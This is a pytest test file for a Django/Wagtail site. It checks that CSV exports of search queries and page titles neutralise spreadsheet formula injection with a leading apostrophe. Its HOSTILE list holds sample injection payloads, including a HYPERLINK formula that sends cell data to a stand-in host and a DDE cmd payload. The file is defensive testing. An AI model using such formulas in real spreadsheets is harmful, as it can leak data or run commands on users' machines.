"""CSV exports neutralise formulas (kb.core.spreadsheets): a cell an outsider or an editor
wrote that begins with =, +, -, @, a tab or a carriage return gets a leading apostrophe, so
that a spreadsheet shows it instead of running it. The search report's cells come from
anonymous queries; Wagtail's own reports show page titles that editors write."""

import csv
import io

import pytest
from django.test import Client

from kb.core.spreadsheets import neutralise

from . import factories
from .search_support import search

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klikk")',
    "+47 cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
]


def csv_rows(client, url):
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text)))


def test_a_hostile_query_is_text_in_the_search_reports_csv(client, adviser_client):
    for query in [*HOSTILE, "samskaping"]:
        search(client, q=query)
    rows = csv_rows(adviser_client, "/admin/reports/sok/?export=csv")
    queries = [row[0] for row in rows[1:]]
    assert len(queries) == len(HOSTILE) + 1
    for cell in (cell for row in rows for cell in row):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    # What was typed is all there, behind the apostrophe; harmless cells are as they were.
    assert "samskaping" in queries
    assert sum(query.startswith("'") for query in queries) == len(HOSTILE)
    assert "'=hyperlink(" in " ".join(queries)  # the log keeps queries in lower case


def test_a_page_title_is_text_in_wagtails_own_csv_reports(db):
    factories.MethodPageFactory(title="=1+2 metode")
    client = Client()
    client.force_login(factories.SuperuserFactory())
    rows = csv_rows(client, "/admin/reports/aging-pages/?export=csv")
    titles = [row[0] for row in rows[1:]]
    assert "'=1+2 metode" in titles
    assert "=1+2 metode" not in titles


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Samskaping", "Samskaping"),
        ("", ""),
        (-3, -3),  # a number from the database stays a number
        (None, None),
    ],
)
def test_only_text_that_could_start_a_formula_changes(value, expected):
    assert neutralise(value) == expected
